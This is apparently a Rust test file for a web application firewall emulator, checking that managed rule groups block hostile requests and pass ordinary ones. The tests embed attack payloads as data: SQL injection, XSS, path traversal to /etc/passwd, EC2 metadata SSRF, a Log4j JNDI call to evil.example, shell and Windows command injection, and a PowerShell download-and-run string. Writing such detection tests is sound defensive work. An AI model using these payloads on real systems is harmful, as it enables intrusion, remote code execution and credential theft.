use super::*;
use crate::action::ActionKind;
use crate::compile::{WebAcl, validate_rule_group};
use crate::evaluate::{Verdict, evaluate};
use crate::ipset::IpSet;
use crate::model::IpSetDef;
use crate::pattern::RegexPatternSet;
use crate::rate::RateTracker;
use crate::request::Request;
use crate::resolver::Resolver;
use crate::testutil::{account, acl_def, options, rule as acl_rule};
use std::net::IpAddr;

/// Resolves rampart's managed groups; its feeds list 203.0.113.0/24 as anonymous and
/// 198.51.100.0/24 as a DDoS source.
struct Managed;

impl Resolver for Managed {
    fn ip_set(&self, arn: &str) -> Option<Arc<IpSet>> {
        let addresses = if arn == managed_ip_set_arn("AnonymousIPList") {
            vec!["203.0.113.0/24".to_string()]
        } else if arn == managed_ip_set_arn("AWSManagedIPDDoSList") {
            vec!["198.51.100.0/24".to_string()]
        } else if MANAGED_IP_SETS.iter().any(|n| arn == managed_ip_set_arn(n)) {
            Vec::new()
        } else {
            return None;
        };
        Some(Arc::new(
            IpSet::compile(&IpSetDef {
                ip_address_version: "IPV4".into(),
                addresses,
            })
            .unwrap(),
        ))
    }
    fn regex_pattern_set(&self, _arn: &str) -> Option<Arc<RegexPatternSet>> {
        None
    }
    fn rule_group(&self, _arn: &str) -> Option<ResolvedGroup> {
        None
    }
    fn managed_rule_group(
        &self,
        vendor: &str,
        name: &str,
        version: Option<&str>,
    ) -> Option<ResolvedGroup> {
        managed_group(vendor, name, version)
    }
}

fn group_rule(name: &str, priority: i64, override_action: &str) -> String {
    acl_rule(
        name,
        priority,
        &format!(r#"{{"ManagedRuleGroupStatement": {{"VendorName": "AWS", "Name": "{name}"}}}}"#),
        &format!(r#""OverrideAction": {override_action}"#),
    )
}

fn acl(rules: &[String]) -> WebAcl {
    WebAcl::compile(&acl_def(rules, r#"{"Allow": {}}"#), &Managed, &options()).unwrap()
}

fn all_groups() -> WebAcl {
    let rules: Vec<String> = managed_groups()
        .iter()
        .enumerate()
        .map(|(i, g)| group_rule(g.name, i as i64, r#"{"None": {}}"#))
        .collect();
    acl(&rules)
}

fn browser(method: &str, target: &str) -> Request {
    Request::new(method, target.as_bytes(), IpAddr::from([192, 0, 2, 1]))
        .with_header("Host", "app.example")
        .with_header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        )
        .with_header("Accept", "text/html")
}

fn verdict(req: &Request) -> Verdict {
    evaluate(&all_groups(), req, &mut RateTracker::default(), 0)
}

fn blocked_by(req: &Request) -> Option<String> {
    let v = verdict(req);
    (v.action == ActionKind::Block).then(|| {
        v.terminating_rule
            .and_then(|t| t.rule_within_group)
            .unwrap_or_default()
    })
}

#[test]
fn every_group_fits_its_declared_capacity_and_compiles() {
    for g in managed_groups() {
        let resolved = managed_group(VENDOR, g.name, None).unwrap();
        assert_eq!(resolved.label_namespace, g.label_namespace);
        let used = validate_rule_group(&resolved.def, &Managed, &account()).unwrap();
        assert!(
            used <= g.capacity,
            "{} uses {used} of {}",
            g.name,
            g.capacity
        );
    }
    assert_eq!(
        all_groups().capacity(),
        700 + 200 + 200 + 100 + 200 + 100 + 200 + 100 + 25 + 50
    );
    assert!(managed_group(VENDOR, "AWSManagedRulesCommonRuleSet", Some("Version_9.9")).is_none());
    assert!(managed_group("Other", "AWSManagedRulesCommonRuleSet", None).is_none());
}

#[test]
fn ordinary_requests_pass() {
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/index.html?page=2&sort=name&q=hello+world"
        )),
        None
    );
    assert_eq!(
        blocked_by(&browser("GET", "/products/42?ref=home&utm_source=news")),
        None
    );
    let form = browser("POST", "/comment")
        .with_header("Cookie", "session=8f14e45f; theme=dark")
        .with_body(&b"name=Jane+O%27Reilly&comment=Please+select+a+size+from+the+list"[..]);
    assert_eq!(blocked_by(&form), None);
}

#[test]
fn core_rule_set_rules() {
    let no_ua =
        Request::new("GET", b"/", IpAddr::from([192, 0, 2, 1])).with_header("Host", "app.example");
    assert_eq!(blocked_by(&no_ua).as_deref(), Some("NoUserAgent_HEADER"));
    let bot = browser("GET", "/").with_header("User-Agent", "sqlmap/1.7");
    let bot = Request {
        headers: bot
            .headers
            .into_iter()
            .filter(|h| h.value != b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")
            .collect(),
        ..bot
    };
    assert_eq!(
        blocked_by(&bot).as_deref(),
        Some("UserAgent_BadBots_HEADER")
    );
    assert_eq!(
        blocked_by(&browser("GET", &format!("/?q={}", "a".repeat(2100)))).as_deref(),
        Some("SizeRestrictions_QUERYSTRING")
    );
    let big = browser("POST", "/upload").with_body(vec![b'a'; 9000]);
    assert_eq!(blocked_by(&big).as_deref(), Some("SizeRestrictions_BODY"));
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/fetch?url=http://169.254.169.254/latest/meta-data/"
        ))
        .as_deref(),
        Some("EC2MetaDataSSRF_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/view?file=..%2f..%2fetc%2fpasswd")).as_deref(),
        Some("GenericLFI_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/backup/site.sql")).as_deref(),
        Some("RestrictedExtensions_URIPATH")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/?page=http://10.0.0.5/shell.txt")).as_deref(),
        Some("GenericRFI_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E")).as_deref(),
        Some("CrossSiteScripting_QUERYARGUMENTS")
    );
}

#[test]
fn sql_database_rules() {
    assert_eq!(
        blocked_by(&browser("GET", "/?id=1%27%20OR%201=1--")).as_deref(),
        Some("SQLi_QUERYARGUMENTS")
    );
    let body = browser("POST", "/login").with_body(&b"user=admin%27--&pass=x"[..]);
    assert_eq!(blocked_by(&body).as_deref(), Some("SQLi_BODY"));
    let cookie = browser("GET", "/").with_header("Cookie", "id=1 UNION SELECT password FROM users");
    assert_eq!(blocked_by(&cookie).as_deref(), Some("SQLi_COOKIE"));
}

#[test]
fn known_bad_inputs_rules() {
    let log4j = browser("GET", "/").with_header("X-Api-Version", "${jndi:ldap://evil.example/a}");
    assert_eq!(blocked_by(&log4j).as_deref(), Some("Log4JRCE_HEADER"));
    assert_eq!(
        blocked_by(&browser("PROPFIND", "/")).as_deref(),
        Some("PROPFIND_METHOD")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/app/WEB-INF/web.xml")).as_deref(),
        Some("ExploitablePaths_URIPATH")
    );
    let local = Request::new("GET", b"/", IpAddr::from([192, 0, 2, 1]))
        .with_header("Host", "localhost:8080")
        .with_header("User-Agent", "Mozilla/5.0");
    assert_eq!(blocked_by(&local).as_deref(), Some("Host_localhost_HEADER"));
    let java = browser("POST", "/api")
        .with_body(&b"class.module.classLoader.resources.context.parent.pipeline"[..]);
    assert_eq!(
        blocked_by(&java).as_deref(),
        Some("JavaDeserializationRCE_BODY")
    );
}

#[test]
fn admin_protection_and_ip_lists() {
    assert_eq!(
        blocked_by(&browser("GET", "/phpmyadmin/index.php")).as_deref(),
        Some("AdminProtection_URIPATH")
    );
    let anon = Request {
        source_ip: IpAddr::from([203, 0, 113, 9]),
        ..browser("GET", "/")
    };
    assert_eq!(blocked_by(&anon).as_deref(), Some("AnonymousIPList"));
    // The DDoS list counts by default: labelled, not blocked.
    let ddos = Request {
        source_ip: IpAddr::from([198, 51, 100, 9]),
        ..browser("GET", "/")
    };
    let v = verdict(&ddos);
    assert_eq!(v.action, ActionKind::Allow);
    assert!(
        v.labels
            .contains(&"awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList".to_string())
    );
}

#[test]
fn operating_system_and_php_rules() {
    assert_eq!(
        blocked_by(&browser("GET", "/download?f=/etc/passwd")).as_deref(),
        Some("LFI_QUERYSTRING")
    );
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/?host=127.0.0.1;cat%20/et%27c/pa%27ss%27wd"
        ))
        .as_deref(),
        Some("LFI_QUERYSTRING")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/?ip=127.0.0.1%20%26%26%20ls%20-la")).as_deref(),
        Some("UNIXShellCommandsVariables_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser("GET", "/?x=a$IFS$9b")).as_deref(),
        Some("UNIXShellCommandsVariables_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/?q=x%26%20net%20user%20admin%20p4ss%20/add"
        ))
        .as_deref(),
        Some("WindowsShellCommands_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/?c=IEX(New-Object%20Net.WebClient).DownloadString(%27http://x%27)"
        ))
        .as_deref(),
        Some("PowerShellCommands_QUERYARGUMENTS")
    );
    assert_eq!(
        blocked_by(&browser(
            "GET",
            "/?page=php://filter/convert.base64-encode/resource=index"
        ))
        .as_deref(),
        Some("PHPHighRiskMethodsVariables_QUERYSTRING")
    );
    // Command words in prose are not commands.
    for text in [
        "echo+in+the+mirror",
        "curl+and+divergence",
        "bash+away+in+the+gym",
        "ls+300+lexus",
        "nc+8000+controller",
    ] {
        assert_eq!(
            blocked_by(&browser("GET", &format!("/?q={text}"))),
            None,
            "{text}"
        );
    }
}

#[test]
fn a_group_overridden_to_count_labels_for_a_later_rule() {
    let exception = acl_rule(
        "block-sqli-except-search",
        1,
        r#"{"AndStatement": {"Statements": [
            {"LabelMatchStatement": {"Scope": "LABEL", "Key": "awswaf:managed:aws:sql-database:SQLi_QueryArguments"}},
            {"NotStatement": {"Statement": {"ByteMatchStatement": {"SearchString": "L3NlYXJjaA==", "FieldToMatch": {"UriPath": {}},
                "PositionalConstraint": "STARTS_WITH", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}}}]}}"#,
        r#""Action": {"Block": {}}"#,
    );
    let acl = acl(&[
        group_rule("AWSManagedRulesSQLiRuleSet", 0, r#"{"Count": {}}"#),
        exception,
    ]);
    let mut t = RateTracker::default();
    let v = evaluate(
        &acl,
        &browser("GET", "/search?q=1%27%20OR%201=1--"),
        &mut t,
        0,
    );
    assert_eq!(
        v.action,
        ActionKind::Allow,
        "the exception lets /search through"
    );
    assert!(v.matched_rules[0].overridden_to_count);
    assert_eq!(
        v.labels,
        vec!["awswaf:managed:aws:sql-database:SQLi_QueryArguments"]
    );
    let v = evaluate(
        &acl,
        &browser("GET", "/items?q=1%27%20OR%201=1--"),
        &mut t,
        0,
    );
    assert_eq!(v.action, ActionKind::Block);
    assert_eq!(v.terminating_rule.unwrap().rule, "block-sqli-except-search");
}

mod fuzz {
    use super::*;
    use proptest::prelude::*;
    use std::sync::OnceLock;

    fn shared() -> &'static WebAcl {
        static ACL: OnceLock<WebAcl> = OnceLock::new();
        ACL.get_or_init(all_groups)
    }

    proptest! {
        #[test]
        fn evaluation_of_every_managed_rule_never_panics(
            method in "[A-Z]{1,8}",
            target in proptest::collection::vec(any::<u8>(), 0..300),
            headers in proptest::collection::vec(("[A-Za-z-]{1,12}", proptest::collection::vec(any::<u8>(), 0..80)), 0..6),
            body in proptest::collection::vec(any::<u8>(), 0..400),
        ) {
            let mut req = Request::new(&method, &target, IpAddr::from([192, 0, 2, 1])).with_body(body);
            for (n, v) in headers {
                req = req.with_header(&n, v);
            }
            let v = evaluate(shared(), &req, &mut RateTracker::default(), 0);
            prop_assert!(v.action != ActionKind::Count);
        }
    }
}
